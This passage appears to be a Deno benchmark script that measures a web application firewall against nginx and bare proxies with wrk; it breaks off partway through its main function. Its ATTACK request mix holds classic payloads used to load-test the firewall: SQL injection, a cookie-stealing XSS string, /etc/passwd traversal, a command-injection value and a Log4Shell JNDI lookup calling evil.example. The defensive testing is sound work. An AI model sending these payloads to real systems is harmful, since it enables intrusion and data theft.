/**
 * Measures the data plane against nginx in one run, with one load generator (wrk):
 *
 * 1. the upstream served directly (nginx static, one worker);
 * 2. nginx as a plain reverse proxy (Debian's nginx-light, one worker, pooled keep-alive);
 * 3. a bare Deno proxy (`bench_bare_proxy.ts`) on `fetch`: the floor for any proxy built on
 *    Deno's server and `fetch`;
 * 4. the same bare proxy on the data plane's own HTTP/1.1 client (`http1_client.ts`);
 * 5. the WAF with protection off;
 * 6. the WAF with default protection (balanced, block);
 * 7. the WAF's connection front (`net/conn_front.ts`): the WAF with and without it
 *    (`--front-only` runs just this);
 *
 * The WAF runs as `deno task start` runs it: the shipped flags, default logging, the connection
 * front on, `server.data.workers` unset (one worker a core; nginx beside it with
 * `worker_processes auto`), its sites created through the management API after setup. A second
 * pair, nginx and the WAF with one worker each, is measured beside the default one (issue 35's
 * one-worker targets).
 *
 * each on a benign request mix and on an attack mix, then the p99 latency at half of the WAF's
 * maximum rate for the upstream, nginx, the bare Deno proxies and the WAF, and finally the WAF's
 * resident memory after `--rss-seconds` (default 60, 0 skips it) of full benign load, for each
 * worker count, and a `--hog-seconds` (default 60, 0 skips it) full-load run of benign requests
 * with attacks among them beside a CPU hog, which reports what the access log wrote, sampled and
 * dropped (the records of blocked requests must all be kept). Every target of issue 35 is
 * printed last as met or NOT met. wrk2 is not packaged in
 * Debian, so the paced runs use wrk's Lua `delay()` hook: every connection waits between
 * requests, the wait calibrated per target so that each reaches the same rate (`pacedRun`).
 * They use as many connections as the full-load runs (`--paced-connections`, default 50): issue
 * 13 takes its targets with `wrk -c50`, and the pacing is closed-loop, so with few connections a
 * target whose latency approaches the pacing cycle can no longer reach the rate, and its p99 is
 * taken at a lower load than the upstream's (docs/bench/README.md, "Tools").
 *
 * ```sh
 * deno task bench:proxy [--duration 10] [--connections 50] [--threads 2] [--paced-connections 50]
 *                       [--rss-seconds 60] [--hog-seconds 60] [--workers default|1|N|auto]
 *                       [--json] [--front-only]
 * # one phase alone, in alternated rounds; each --candidate is a whole --v8-flags=... argument
 * # tried against the shipped flags (scripts/server_flags.ts):
 * deno task bench:proxy --rss-only [--rss-rounds 3] [--rss-seconds 60] [--candidate=--v8-flags=...]
 *                       [--candidate-tree=/path/to/another/checkout/]
 * deno task bench:proxy --half-only [--half-rounds 3] [--candidate=--v8-flags=...]
 *                       [--candidate-tree=/path/to/another/checkout/]
 * ```
 *
 * wrk and nginx-light are installed with apt-get when missing (needs root).
 */
import process from "node:process";
import { parseArgs } from "node:util";
import {
  cpuTicks,
  ensure,
  eventLoopSched,
  freePort,
  loadAverage,
  median,
  run,
  stopAll,
  waitForPort,
} from "./bench_kit.ts";
import { createDataApp } from "../routes/proxy/data_app.ts";
import { createLogger } from "../mod/core/logger.ts";
import { SERVER_DENO_FLAGS, SERVER_V8_FLAGS } from "./server_flags.ts";
import { BenchApi } from "./bench_api.ts";
import { openStore } from "../db/store.ts";

const ROOT = new URL("..", import.meta.url).pathname;
/** The V8 flags `deno task start` and the compiled binary use (docs/data-plane.md, "Memory and V8 flags"). */

interface WrkResult {
  readonly rps: number;
  readonly p50: number;
  readonly p90: number;
  readonly p99: number;
  readonly non2xx: number;
  readonly requests: number;
  /** CPU time the target's process(es) used per request, in µs (all threads, and children). */
  cpuUs?: number;
}

/** A wrk run that also reports the target process's CPU time per request. */
export async function measured(
  pid: number,
  dir: string,
  url: string,
  script: string,
  opts: { threads: number; connections: number; duration: number },
): Promise<WrkResult> {
  const before = cpuTicks(pid);
  const r = await wrk(dir, url, script, opts);
  r.cpuUs = ((cpuTicks(pid) - before) * 10_000) / Math.max(1, r.requests);
  return r;
}

export function nginxConf(
  dir: string,
  name: string,
  server: string,
  upstreamBlock = "",
  workers: number | "auto" = 1,
): string {
  return `worker_processes ${workers};
daemon off;
pid ${dir}/${name}.pid;
error_log ${dir}/${name}.error.log warn;
events { worker_connections 4096; }
http {
  access_log off;
  client_body_temp_path ${dir}/${name}_body;
  proxy_temp_path ${dir}/${name}_proxy;
  keepalive_requests 1000000;
  ${upstreamBlock}
  server {
    ${server}
  }
}
`;
}

/** nginx answering every request with a short text, the upstream of the benchmarks. */
export function startNginxUpstream(dir: string, port: number) {
  return startNginx(
    dir,
    "upstream",
    nginxConf(
      dir,
      "upstream",
      `listen 127.0.0.1:${port}; location / { default_type text/plain; return 200 "hello from the upstream\\n"; }`,
    ),
    port,
  );
}

export async function startNginx(dir: string, name: string, conf: string, port: number) {
  const path = `${dir}/${name}.conf`;
  await Deno.writeTextFile(path, conf);
  const child = new Deno.Command("nginx", {
    args: ["-c", path, "-p", dir],
    stdout: "null",
    stderr: "inherit",
  }).spawn();
  await waitForPort(port, `nginx (${name})`);
  return child;
}

export const BENIGN: ReadonlyArray<readonly [string, string, string, string]> = [
  ["GET", "/index.html", "", ""],
  ["GET", "/products?id=42&sort=price&page=2", "", ""],
  ["GET", "/search?q=how+to+select+the+union+of+two+sets+and+drop+duplicates", "", ""],
  [
    "POST",
    "/login",
    "application/x-www-form-urlencoded",
    "username=alice&password=correct+horse+battery&remember=on",
  ],
  [
    "POST",
    "/api/orders",
    "application/json",
    '{"item":"book","qty":2,"note":"Please drop it at the door, <b>thanks</b>"}',
  ],
  ["GET", "/static/app.js?v=1.4.2", "", ""],
];

export const ATTACK: ReadonlyArray<readonly [string, string, string, string]> = [
  ["GET", "/products?id=1%27%20OR%201=1--", "", ""],
  ["GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", ""],
  ["GET", "/download?file=../../../../etc/passwd", "", ""],
  [
    "POST",
    "/api/ping",
    "application/x-www-form-urlencoded",
    "host=127.0.0.1%3Bcat%20/etc/passwd",
  ],
  ["GET", "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "", ""],
  ["GET", "/?x=%24%7Bjndi:ldap://evil.example/a%7D", "", ""],
];

function luaString(s: string): string {
  return JSON.stringify(s);
}

/** A wrk script cycling through `mix`; with `delayMs` each connection paces itself. */
export function wrkScript(
  mix: ReadonlyArray<readonly [string, string, string, string]>,
  host: string,
  delayMs?: number,
): string {
  const reqs = mix.map(([method, path, type, body]) => {
    const headers = [
      `["Host"]=${luaString(host)}`,
      `["User-Agent"]="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36"`,
      `["Accept"]="text/html,application/json;q=0.9,*/*;q=0.8"`,
      `["Cookie"]="session=4f2a9c1e7b; theme=dark"`,
      ...(type ? [`["Content-Type"]=${luaString(type)}`] : []),
    ];
    return `wrk.format(${luaString(method)}, ${luaString(path)}, {${headers.join(", ")}}, ${
      body ? luaString(body) : "nil"
    })`;
  });
  const pacing = delayMs === undefined ? "" : `
local base = ${Math.floor(delayMs)}
local frac = ${delayMs - Math.floor(delayMs)}
function delay()
  if math.random() < frac then return base + 1 end
  return base
end`;
  return `local reqs = {}
init = function(args)
  reqs = { ${reqs.join(",\n  ")} }
  math.randomseed(os.time() + math.floor(os.clock() * 1000000))
end
local i = 0
request = function()
  i = i + 1
  return reqs[(i % #reqs) + 1]
end
${pacing}
`;
}

function toMs(value: string, unit: string): number {
  const n = Number(value);
  return unit === "us" ? n / 1000 : unit === "s" ? n * 1000 : n;
}

function parseWrk(out: string): WrkResult {
  const pct = (p: string) => {
    const m = new RegExp(`^\\s+${p}%\\s+([\\d.]+)(us|ms|s)\\s*$`, "m").exec(out);
    return m ? toMs(m[1]!, m[2]!) : NaN;
  };
  return {
    rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN),
    p50: pct("50"),
    p90: pct("90"),
    p99: pct("99"),
    non2xx: Number(/Non-2xx or 3xx responses:\s+(\d+)/.exec(out)?.[1] ?? 0),
    requests: Number(/(\d+) requests in/.exec(out)?.[1] ?? 0),
  };
}

export async function wrk(
  dir: string,
  url: string,
  script: string,
  opts: { threads: number; connections: number; duration: number },
): Promise<WrkResult> {
  const path = `${dir}/script_${crypto.randomUUID()}.lua`;
  await Deno.writeTextFile(path, script);
  const r = await run("wrk", [
    `-t${opts.threads}`,
    `-c${opts.connections}`,
    `-d${opts.duration}s`,
    "--latency",
    "-s",
    path,
    url,
  ]);
  if (r.code !== 0) throw new Error(`wrk failed:\n${r.out}`);
  return parseWrk(r.out);
}

/** The two benchmark sites, as a user creates them through the management API. */
export const BENCH_SITES: ReadonlyArray<Record<string, unknown>> = [
  { name: "off", hosts: ["off.bench"], mode: "off" },
  { name: "on", hosts: ["on.bench"] },
];

/** The status of `GET /index.html` for `host` on a connection of its own (fetch sets no Host). */
async function statusFor(port: number, host: string): Promise<number> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  try {
    await conn.write(
      new TextEncoder().encode(
        `GET /index.html HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`,
      ),
    );
    const buf = new Uint8Array(64);
    const n = await conn.read(buf);
    const m = /^HTTP\/1\.1 (\d{3})/.exec(new TextDecoder().decode(buf.subarray(0, n ?? 0)));
    return m ? Number(m[1]) : 0;
  } finally {
    conn.close();
  }
}

/**
 * Completes first-install setup, signs in and creates the benchmark sites through the management
 * API; resolves once the data plane (every worker) answers for both hosts.
 */
async function createSitesThroughApi(
  dataDir: string,
  upstream: string,
  dataPort: number,
  mgmtPort: number,
): Promise<BenchApi> {
  await waitForPort(mgmtPort, "waf management");
  const api = new BenchApi(mgmtPort);
  await api.setup(dataDir);
  for (const site of BENCH_SITES) await api.createSite({ ...site, upstreams: [upstream] });
  // The policy reaches the workers a moment later; several tries, since each connection may land
  // on another worker.
  for (const host of ["off.bench", "on.bench"]) {
    let ready = 0;
    for (let i = 0; ready < 8 && i < 400; i++) {
      ready = await statusFor(dataPort, host) === 200 ? ready + 1 : 0;
      if (ready === 0) await new Promise((r) => setTimeout(r, 25));
    }
    if (ready === 0) throw new Error(`the data plane does not answer for ${host}`);
  }
  return api;
}

/**
 * Starts the WAF as `deno task start` does (`main.ts serve`, the shipped flags, default logging,
 * the connection front on) and creates the benchmark sites through its management API;
 * `workers` is `server.data.workers` (`default`: not set, as a fresh install has it), `denoArgs`
 * go before the script, `options.extra` is appended to its waf.yaml. The child carries the
 * signed-in `api`.
 */
export async function startWaf(
  dir: string,
  upstream: string,
  dataPort: number,
  mgmtPort: number,
  workers = "1",
  denoArgs: string[] = [],
  root = ROOT,
  options: {
    name?: string;
    front?: boolean;
    extra?: string;
    /** Runs on the seeded store before the server starts (e.g. fills its access log). */
    prepare?: (dataDir: string) => void;
    /** Replaces the shipped `--v8-flags=...` argument (the RSS comparison's candidates). */
    v8Flags?: string;
    /** Where the child's stdout (V8's traces, e.g. `--trace-gc`) goes; discarded without. */
    stdoutFile?: string;
  } = {},
) {
  const dataDir = `${dir}/${options.name ?? "waf"}`;
  await Deno.mkdir(dataDir, { recursive: true });
  await Deno.writeTextFile(
    `${dataDir}/waf.yaml`,
    `server:
  data:
    listen: "127.0.0.1:${dataPort}"
${workers === "default" ? "" : `    workers: ${workers}\n`}    limits:
      enabled: ${options.front ?? true}
  management:
    listen: "127.0.0.1:${mgmtPort}"
${options.extra ?? ""}`,
  );
  if (options.prepare) {
    // The store's schema first (as the server makes it); `prepare` fills it before it starts.
    openStore(`${dataDir}/waf.db`, { now: Date.now() }).close();
    options.prepare(dataDir);
  }
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "-A",
      "--unstable-net",
      options.v8Flags ?? SERVER_V8_FLAGS,
      ...SERVER_DENO_FLAGS,
      ...denoArgs,
      `${root}main.ts`,
      "serve",
      "--data-dir",
      dataDir,
    ],
    stdout: options.stdoutFile ? "piped" : "null",
    stderr: "inherit",
  }).spawn();
  if (options.stdoutFile) {
    // V8's traces (--trace-gc and the like) go to stdout.
    const file = await Deno.open(options.stdoutFile, { write: true, create: true, truncate: true });
    child.stdout.pipeTo(file.writable).catch(() => {});
  }
  await waitForPort(dataPort, "waf data plane");
  const api = await createSitesThroughApi(dataDir, upstream, dataPort, mgmtPort);
  return Object.assign(child, { api });
}

export type BareClient = "fetch" | "http1" | "http1-hono";

/**
 * Starts a bare Deno proxy on `fetch` or on our HTTP/1.1 client from the checkout at `root` (this
 * one by default), with the same V8 flags as the WAF; returns at once, before it listens.
 */
export function spawnBareProxy(upstream: string, port: number, client: BareClient, root = ROOT) {
  return new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "-A",
      SERVER_V8_FLAGS,
      `${root}scripts/bench_bare_proxy.ts`,
      String(port),
      upstream,
      client,
    ],
    stdout: "null",
    stderr: "inherit",
  }).spawn();
}

/** {@link spawnBareProxy} from this checkout, once it listens. */
async function startBareProxy(upstream: string, port: number, client: BareClient) {
  const child = spawnBareProxy(upstream, port, client);
  await waitForPort(port, `bare Deno proxy (${client})`);
  return child;
}

/**
 * The connection front's cost (net/conn_front.ts): the same WAF with the front (the default)
 * and with `server.data.limits.enabled: false` (`Deno.serve` on the port), both running, measured
 * alternately in short runs on the benign mix through the protected site; medians of the ratios.
 */
async function frontCost(
  dir: string,
  upstream: string,
  opts: { threads: number; connections: number; duration: number },
  children: Deno.ChildProcess[],
) {
  const withPort = freePort();
  const withFront = await startWaf(dir, upstream, withPort, freePort(), "1", [], ROOT, {
    name: "waf-front",
  });
  children.push(withFront);
  const withoutPort = freePort();
  const without = await startWaf(dir, upstream, withoutPort, freePort(), "1", [], ROOT, {
    name: "waf-nofront",
    front: false,
  });
  children.push(without);
  const script = wrkScript(BENIGN, "on.bench");
  const short = { ...opts, duration: Math.max(4, Math.round(opts.duration / 2)) };
  for (const port of [withPort, withoutPort]) {
    await wrk(dir, `http://127.0.0.1:${port}`, script, { ...opts, duration: 2 });
  }
  const rps: number[] = [];
  const cpu: number[] = [];
  const p99: number[] = [];
  const rounds: string[] = [];
  for (let round = 0; round < 5; round++) {
    // Alternate which one goes first, so a trend in the machine's load cancels out.
    const first = round % 2 === 0;
    const a = first
      ? await measured(withFront.pid, dir, `http://127.0.0.1:${withPort}`, script, short)
      : undefined;
    const b = await measured(without.pid, dir, `http://127.0.0.1:${withoutPort}`, script, short);
    const f = a ??
      await measured(withFront.pid, dir, `http://127.0.0.1:${withPort}`, script, short);
    rps.push(f.rps / b.rps);
    cpu.push(f.cpuUs! / b.cpuUs!);
    p99.push(f.p99 - b.p99);
    rounds.push(`${fmt(f.rps, 0)}/${fmt(b.rps, 0)}`);
  }
  const mid = (xs: number[]) => [...xs].sort((x, y) => x - y)[Math.floor(xs.length / 2)]!;
  const result = {
    rps_with_over_without: mid(rps),
    cpu_with_over_without: mid(cpu),
    p99_added_ms: mid(p99),
    rounds: rps,
  };
  return {
    ...result,
    text: `connection front (median of ${rps.length} alternated ${short.duration} s runs, ` +
      `benign, protected site): ${fmt(result.rps_with_over_without * 100, 1)}% of the ` +
      `throughput without it (req/s with/without: ${rounds.join(", ")}), ${
        fmt(result.cpu_with_over_without * 100, 1)
      }% of its CPU per request, p99 ${fmt(result.p99_added_ms)} ms more`,
  };
}

interface PacedResult extends WrkResult {
  /** The pause each connection made between requests, calibrated for this target. */
  delayMs: number;
  /**
   * With the target's pid: its event loop's CPU time a request (µs) and the time it spent
   * runnable but waiting for a core (ms a second) over the measured run.
   */
  loop?: { cpuUs: number; waitMsPerS: number };
}

/**
 * The benign mix at `target` req/s over `opts.connections` paced connections. wrk's `delay()`
 * pacing is closed-loop: a connection's cycle is the response time plus the delay, so a fixed
 * delay of `connections / target` reaches less than the target, and less for a slower target
 * (it compared the upstream at one rate with the WAF at a lower one). Two 2 s calibration runs
 * (the first is also the warm-up) set the delay from the cycle this target actually showed, so
 * every target is measured at the same rate; a measured run more than 10 % off the target is
 * corrected from and repeated once. The achieved rate is printed with the result.
 */
async function pacedRun(
  dir: string,
  url: string,
  host: string,
  target: number,
  opts: { threads: number; connections: number; duration: number },
  pid?: number,
): Promise<PacedResult> {
  const cycleMs = (opts.connections * 1000) / target;
  let delayMs = cycleMs;
  // The wait a run at `delayMs` reaching `rps` says this target needs.
  const corrected = (rps: number) => {
    const shownMs = (opts.connections * 1000) / Math.max(1, rps);
    // Never longer than the whole cycle: a run faster than the target is noise.
    return Math.min(cycleMs, Math.max(0, delayMs + cycleMs - shownMs));
  };
  for (let i = 0; i < 2; i++) {
    const r = await wrk(dir, url, wrkScript(BENIGN, host, delayMs), { ...opts, duration: 2 });
    delayMs = corrected(r.rps);
  }
  // A calibration run that another process disturbed misleads the correction; a measured run
  // more than 10 % off the target is corrected from and run once more.
  const measure = async () => {
    const before = pid === undefined ? undefined : eventLoopSched(pid);
    const started = performance.now();
    const result: PacedResult = {
      ...await wrk(dir, url, wrkScript(BENIGN, host, delayMs), opts),
      delayMs,
    };
    if (before && pid !== undefined) {
      const after = eventLoopSched(pid);
      result.loop = {
        cpuUs: (after.runNs - before.runNs) / 1000 / Math.max(1, result.requests),
        waitMsPerS: (after.waitNs - before.waitNs) / 1e6 / ((performance.now() - started) / 1000),
      };
    }
    return result;
  };
  let r = await measure();
  if (Math.abs(r.rps / target - 1) > 0.1) {
    delayMs = corrected(r.rps);
    r = await measure();
  }
  return r;
}

/**
 * The half-rate phase alone, repeated: the WAF's maximum benign rate (one full-load run), then
 * `rounds` rounds of paced runs at half of it on the upstream, nginx, the bare own-client proxy
 * and the WAF (and one more WAF per V8-flags candidate), the order alternating; medians of p99
 * and of each WAF's p99 over the upstream's in the same round. Each run of a Deno target (the
 * bare proxy, the WAFs) also prints its event loop's CPU a request and the time it waited for a
 * core: a busy event loop and one kept off its core look the same in the p99.
 */
async function halfRateRounds(
  dir: string,
  targets: ReadonlyArray<{ name: string; url: string; host: string; pid: number }>,
  wafPid: number,
  opts: { threads: number; connections: number; duration: number },
  half: {
    connections: number;
    rounds: number;
    candidates: readonly string[];
    /** Other checkouts whose WAF runs next to this one (an A/B of two trees). */
    trees: readonly string[];
    upstream: string;
    children: Deno.ChildProcess[];
  },
): Promise<string> {
  const waf = targets.find((t) => t.name === "waf, balanced/block")!;
  // The Deno processes' pids, for their event loop's CPU and waits per run (nginx's pid is its
  // master process, whose first thread is not the one answering).
  const named = (name: string) => {
    const { url, host } = targets.find((t) => t.name === name)!;
    return { name, url, host };
  };
  const list: { name: string; url: string; host: string; pid?: number }[] = [
    named("upstream direct"),
    named("nginx reverse proxy"),
    {
      ...named("deno bare, own client"),
      pid: targets.find((t) => t.name === "deno bare, own client")!.pid,
    },
    { ...named(waf.name), pid: wafPid },
  ];
  for (const [i, flags] of half.candidates.entries()) {
    const port = freePort();
    const child = await startWaf(dir, half.upstream, port, freePort(), "1", [], ROOT, {
      name: `waf-half-${i}`,
      v8Flags: flags,
    });
    half.children.push(child);
    list.push({
      name: `waf ${flags}`,
      url: `http://127.0.0.1:${port}`,
      host: "on.bench",
      pid: child.pid,
    });
  }
  for (const [i, tree] of half.trees.entries()) {
    const port = freePort();
    const root = tree.endsWith("/") ? tree : `${tree}/`;
    const child = await startWaf(dir, half.upstream, port, freePort(), "1", [], root, {
      name: `waf-tree-${i}`,
    });
    half.children.push(child);
    list.push({
      name: `waf of ${root}`,
      url: `http://127.0.0.1:${port}`,
      host: "on.bench",
      pid: child.pid,
    });
  }
  console.log(`load average at the start: ${loadAverage()}`);
  const script = wrkScript(BENIGN, waf.host);
  await wrk(dir, waf.url, script, { ...opts, duration: 2 });
  const max = await measured(wafPid, dir, waf.url, script, opts);
  const target = max.rps / 2;
  console.log(`WAF max ${fmt(max.rps, 0)} req/s; half: ${fmt(target, 0)} req/s`);
  const pacedOpts = {
    ...opts,
    connections: half.connections,
    threads: Math.min(opts.threads, half.connections),
  };
  const p99 = new Map(list.map((t) => [t.name, [] as number[]]));
  const added = new Map(list.slice(3).map((t) => [t.name, [] as number[]]));
  for (let round = 0; round < half.rounds; round++) {
    const got = new Map<string, PacedResult>();
    for (const t of round % 2 === 0 ? list : [...list].reverse()) {
      const r = await pacedRun(dir, t.url, t.host, target, pacedOpts, t.pid);
      got.set(t.name, r);
      p99.get(t.name)!.push(r.p99);
      // A WAF's event loop: busy (its CPU a request) or waiting for its core (ms a second).
      const loop = r.loop
        ? `, event loop ${fmt(r.loop.cpuUs, 1)} µs CPU a request, waited for a core ${
          fmt(r.loop.waitMsPerS, 0)
        } ms/s`
        : "";
      console.log(
        `round ${round + 1} ${t.name.padEnd(22)} ${fmt(r.rps, 0).padStart(6)} req/s  p50 ${
          fmt(r.p50)
        } ms  p90 ${fmt(r.p90)} ms  p99 ${fmt(r.p99)} ms  (delay ${
          fmt(r.delayMs)
        } ms${loop}, load ${loadAverage()})`,
      );
    }
    for (const name of added.keys()) {
      added.get(name)!.push(got.get(name)!.p99 - got.get("upstream direct")!.p99);
    }
  }
  return [
    `median p99 at ${
      fmt(target, 0)
    } req/s over ${half.connections} paced connections (${half.rounds} rounds):`,
    ...list.map((t) => `  ${t.name}: ${fmt(median(p99.get(t.name)!))} ms`),
    ...[...added].map(([name, xs]) =>
      `  ${name} over the upstream: +${fmt(median(xs))} ms (${xs.map((x) => fmt(x)).join(", ")})`
    ),
    `load average at the end: ${loadAverage()}`,
  ].join("\n");
}

/**
 * Resident memory after `seconds` of full benign load, for each set of V8 flags in `candidates`
 * (the first is what ships) and each other checkout in `trees` (its own `main.ts`, the shipped
 * flags): every round starts a fresh WAF on a fresh store (a grown access-log table and an
 * earlier phase's heap change the figure), reads `VmRSS` idle (3 s after it listens), warms it
 * 3 s, loads it, reads `VmRSS` and the CPU time per request, and stops it before the next one
 * starts; the order alternates between rounds. Medians per candidate.
 */
async function rssComparison(
  dir: string,
  upstream: string,
  opts: { threads: number; connections: number; duration: number },
  candidates: readonly string[],
  rounds: number,
  seconds: number,
  trees: readonly string[] = [],
): Promise<string> {
  const sides = [
    ...candidates.map((flags) => ({ label: flags, flags, root: ROOT })),
    ...trees.map((root) => ({ label: `tree ${root}`, flags: SERVER_V8_FLAGS, root })),
  ];
  const rows = new Map(sides.map((c) => [c, [] as { idle: number; rss: number; cpu: number }[]]));
  const script = wrkScript(BENIGN, "on.bench");
  let n = 0;
  for (let round = 0; round < rounds; round++) {
    for (const side of round % 2 === 0 ? sides : [...sides].reverse()) {
      const port = freePort();
      const waf = await startWaf(dir, upstream, port, freePort(), "1", [], side.root, {
        name: `waf-rss-${n++}`,
        v8Flags: side.flags,
      });
      try {
        await new Promise((r) => setTimeout(r, 3000));
        const idle = vmRssMb(waf.pid);
        await wrk(dir, `http://127.0.0.1:${port}`, script, { ...opts, duration: 3 });
        const r = await measured(waf.pid, dir, `http://127.0.0.1:${port}`, script, {
          ...opts,
          duration: seconds,
        });
        const rss = vmRssMb(waf.pid);
        rows.get(side)!.push({ idle, rss, cpu: r.cpuUs! });
        console.log(
          `round ${round + 1} ${side.label}: ${fmt(rss, 1)} MB (idle ${fmt(idle, 1)}), ${
            fmt(r.cpuUs!, 1)
          } µs/req, ${fmt(r.rps, 0)} req/s, load ${loadAverage()}`,
        );
      } finally {
        waf.kill("SIGTERM");
        await waf.status;
      }
    }
  }
  return [
    `RSS after ${seconds} s of full benign load, fresh WAF each round (median of ${rounds}):`,
    ...sides.map((c) => {
      const xs = rows.get(c)!;
      return `  ${c.label}: ${fmt(median(xs.map((x) => x.rss)), 1)} MB (${
        xs.map((x) => fmt(x.rss, 0)).join(", ")
      }; idle ${xs.map((x) => fmt(x.idle, 0)).join(", ")}), ${
        fmt(median(xs.map((x) => x.cpu)), 1)
      } µs/req`;
    }),
  ].join("\n");
}

function vmRssMb(pid: number): number {
  const status = Deno.readTextFileSync(`/proc/${pid}/status`);
  return Number(/VmRSS:\s+(\d+) kB/.exec(status)?.[1] ?? NaN) / 1024;
}

/**
 * The CPU time the data plane's Hono app adds to a request, in µs: its one catch-all route
 * around a handler that answers at once, against the handler called directly, in alternated
 * rounds (the median difference).
 */
async function honoCostUs(rounds = 5, calls = 50_000): Promise<number> {
  const answer = new Response("ok");
  const handler = () => Promise.resolve(answer);
  const app = createDataApp(handler, createLogger({ format: "text", level: "error" }), () => "-");
  const req = new Request("http://on.bench/products?id=42&sort=price&page=2", {
    headers: { host: "on.bench" },
  });
  const timed = async (call: () => Promise<Response>) => {
    const t0 = process.cpuUsage();
    for (let i = 0; i < calls; i++) await call();
    const t = process.cpuUsage(t0);
    return (t.user + t.system) / calls;
  };
  const viaHono = () => app.handle(req, "127.0.0.1", "http");
  const direct = () => handler();
  await timed(viaHono);
  await timed(direct);
  const diffs: number[] = [];
  for (let r = 0; r < rounds; r++) diffs.push((await timed(viaHono)) - (await timed(direct)));
  return Math.max(0, median(diffs));
}

/** nginx as a plain reverse proxy to the upstream (pooled keep-alive), `workers` processes. */
function startNginxProxy(
  dir: string,
  name: string,
  port: number,
  upPort: number,
  workers: number | "auto",
) {
  return startNginx(
    dir,
    name,
    nginxConf(
      dir,
      name,
      `listen 127.0.0.1:${port};
    location / {
      proxy_pass http://backend;
      proxy_http_version 1.1;
      proxy_set_header Connection "";
      proxy_set_header Host $host;
      proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
      proxy_set_header X-Forwarded-Proto $scheme;
    }`,
      `upstream backend { server 127.0.0.1:${upPort}; keepalive 128; }`,
      workers,
    ),
    port,
  );
}

/** The data-plane threads `server.data.workers` means here (`default` and `auto`: one a core). */
function workerThreads(workers: string): number {
  if (workers === "default" || workers === "auto") {
    return Math.max(1, Math.min(32, navigator.hardwareConcurrency));
  }
  return Number(workers);
}

interface HogResult {
  readonly seconds: number;
  readonly rps: number;
  readonly blockedResponses: number;
  readonly requests: number;
  readonly written: number;
  readonly sampled: number;
  readonly dropped: number;
  readonly droppedVerdicts: number;
  readonly text: string;
}

/**
 * Full load for `opts.duration` s, three benign requests to one attack, with a CPU hog (a shell
 * spinning) beside the WAF; then what its access log wrote, sampled and dropped meanwhile, read
 * through the management API once its queue has drained.
 */
async function hogRun(
  dir: string,
  waf: Deno.ChildProcess & { api: BenchApi },
  url: string,
  opts: { threads: number; connections: number; duration: number },
): Promise<HogResult> {
  const counters = async () => {
    const s = await waf.api.logStats();
    const n = (k: string) => Number(s[k] ?? 0);
    return {
      queued: n("queued"),
      written: n("written"),
      sampled: n("sampled"),
      dropped: n("dropped"),
      droppedVerdicts: n("dropped_verdicts"),
    };
  };
  const before = await counters();
  const hog = new Deno.Command("sh", { args: ["-c", "while :; do :; done"] }).spawn();
  let r: WrkResult;
  const load = loadAverage();
  try {
    r = await measured(
      waf.pid,
      dir,
      url,
      wrkScript([...BENIGN, ...BENIGN, ...BENIGN, ...ATTACK], "on.bench"),
      opts,
    );
  } finally {
    hog.kill("SIGKILL");
    await hog.status;
  }
  let after = await counters();
  for (let i = 0; i < 100 && after.queued > 0; i++) {
    await new Promise((res) => setTimeout(res, 100));
    after = await counters();
  }
  const d = {
    written: after.written - before.written,
    sampled: after.sampled - before.sampled,
    dropped: after.dropped - before.dropped,
    droppedVerdicts: after.droppedVerdicts - before.droppedVerdicts,
  };
  return {
    seconds: opts.duration,
    rps: r.rps,
    blockedResponses: r.non2xx,
    requests: r.requests,
    ...d,
    text:
      `full load beside a CPU hog (${opts.duration} s, 3 benign : 1 attack, load average ${load}): ` +
      `${fmt(r.rps, 0)} req/s, ${r.requests} requests (${r.non2xx} blocked); access log ` +
      `${d.written} written, ${d.sampled} passed sampled out, ${d.dropped} dropped ` +
      `(${d.droppedVerdicts} of blocked requests)`,
  };
}

function fmt(n: number, digits = 2): string {
  return Number.isFinite(n) ? n.toFixed(digits) : "n/a";
}

export async function main(args: string[]): Promise<number> {
  const { values } = parseArgs({
    args,
    options: {
      duration: { type: "string", default: "10" },
      connections: { type: "string", default: "50" },
      threads: { type: "string", default: "2" },
      "paced-connections": { type: "string", default: "50" },
      "rss-seconds": { type: "string", default: "60" },
      json: { type: "boolean", default: false },
      /**
       * `server.data.workers` of the WAF under test (`default`: unset, as `deno task start` runs
       * it: one worker per core), and nginx's `worker_processes` beside it (`auto` for the
       * default); a one-worker pair of both is measured beside it.
       */
      workers: { type: "string", default: "default" },
      /** The full-load run with a CPU hog beside it (s; 0 skips it). */
      "hog-seconds": { type: "string", default: "60" },
      /** Only the connection front's cost (two WAFs, alternated), nothing else. */
      "front-only": { type: "boolean", default: false },
      /**
       * Only the RSS after `--rss-seconds`: fresh WAFs, alternated rounds (`--rss-rounds`), the
       * shipped V8 flags against each `--candidate` (a whole `--v8-flags=...` argument).
       */
      "rss-only": { type: "boolean", default: false },
      "rss-rounds": { type: "string", default: "3" },
      /**
       * Only the p99 at half the WAF's maximum rate, in `--half-rounds` alternated rounds; each
       * `--candidate` adds a WAF started with those V8 flags instead of the shipped ones, each
       * `--candidate-tree` a WAF started from another checkout (its own `main.ts`).
       */
      "half-only": { type: "boolean", default: false },
      "half-rounds": { type: "string", default: "3" },
      candidate: { type: "string", multiple: true, default: [] },
      "candidate-tree": { type: "string", multiple: true, default: [] },
    },
  });
  const opts = {
    duration: Number(values.duration),
    connections: Number(values.connections),
    threads: Number(values.threads),
  };
  const pacedConnections = Number(values["paced-connections"]);
  const rssSeconds = Number(values["rss-seconds"]);
  const hogSeconds = Number(values["hog-seconds"]);
  const workers = values.workers;
  const nginxWorkers: number | "auto" = workers === "default" || workers === "auto"
    ? "auto"
    : Number(workers);
  /** The default pair is one worker each already: no second pair. */
  const onePair = nginxWorkers !== 1;
  await ensure("wrk", "wrk");
  await ensure("nginx", "nginx-light");
  const dir = await Deno.makeTempDir({ prefix: "waf-bench-" });
  const children: Deno.ChildProcess[] = [];
  try {
    const upPort = freePort();
    children.push(
      await startNginxUpstream(dir, upPort),
    );
    if (values["front-only"]) {
      const front = await frontCost(dir, `http://127.0.0.1:${upPort}`, opts, children);
      console.log(values.json ? JSON.stringify(front, null, 2) : front.text);
      return 0;
    }
    if (values["rss-only"]) {
      console.log(`load average at the start: ${loadAverage()}`);
